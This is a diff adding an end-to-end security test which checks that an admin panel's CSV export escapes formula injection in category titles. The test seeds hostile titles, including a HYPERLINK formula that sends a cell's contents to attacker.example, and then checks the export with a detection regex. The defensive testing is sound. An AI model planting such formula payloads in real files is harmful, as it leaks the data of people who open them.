@@ -217,3 +217,50 @@ test("the CSV export's header row reads like the list, not like the API", async 
     CAT_FIELDS.dCreatedAt,
   ]);
 });
+
+// Issue 19, item 3: a cell starting with =, +, - or @ is run by a spreadsheet.
+const FORMULAS = [
+  '=HYPERLINK("https://attacker.example/?d="&A3,"Open")',
+  '+SUM(1+1)*cmd',
+  '-2+3+cmd',
+  '@SUM(1+1)',
+];
+
+test('a CSV export holds no formula: hostile titles come out as text @security', async ({
+  page,
+  request,
+}) => {
+  const token = await apiLogin(request, ADMIN);
+  for (const [index, title] of FORMULAS.entries()) {
+    const created = await request.post('/api/v1/admin/categories', {
+      headers: { Authorization: token },
+      data: {
+        sTitle: title,
+        sCategory: 'Gaming',
+        sLogo: 'categoryimages/amazon-gift-card-logo.svg',
+        sBanner: 'categoryimages/amazon-gift-card-banner.svg',
+        sShortDesc: `<p>formula ${index}</p>`,
+        sDescription: '<p>d</p>',
+        sRedeem: '<p>r</p>',
+      },
+    });
+    expect(created.status(), await created.text()).toBe(200);
+  }
+  await new LoginPage(page).goto();
+  await new LoginPage(page).login(ADMIN);
+  await new DashboardPage(page).expectShown();
+  await new CategoryListPage(page).goto();
+  const [download] = await Promise.all([
+    page.waitForEvent('download'),
+    page.getByRole('button', { name: enCommon.export }).click(),
+  ]);
+  const csv = readFileSync(await download.path(), 'utf8').replace(/^\uFEFF/, '');
+  // A cell starts after a comma or a line break, maybe inside its opening quote.
+  const formulaCells = csv.match(/(^|,|\n)"?[=+\-@\t\r]/g) ?? [];
+  const asText = FORMULAS.filter((title) => csv.includes(`'${title.replace(/"/g, '""')}`));
+  console.log(
+    `[security] exports: ${FORMULAS.length} formula titles exported, ${asText.length} as text, ${formulaCells.length} formula cells`,
+  );
+  expect(formulaCells).toEqual([]);
+  expect(asText).toEqual(FORMULAS);
+});
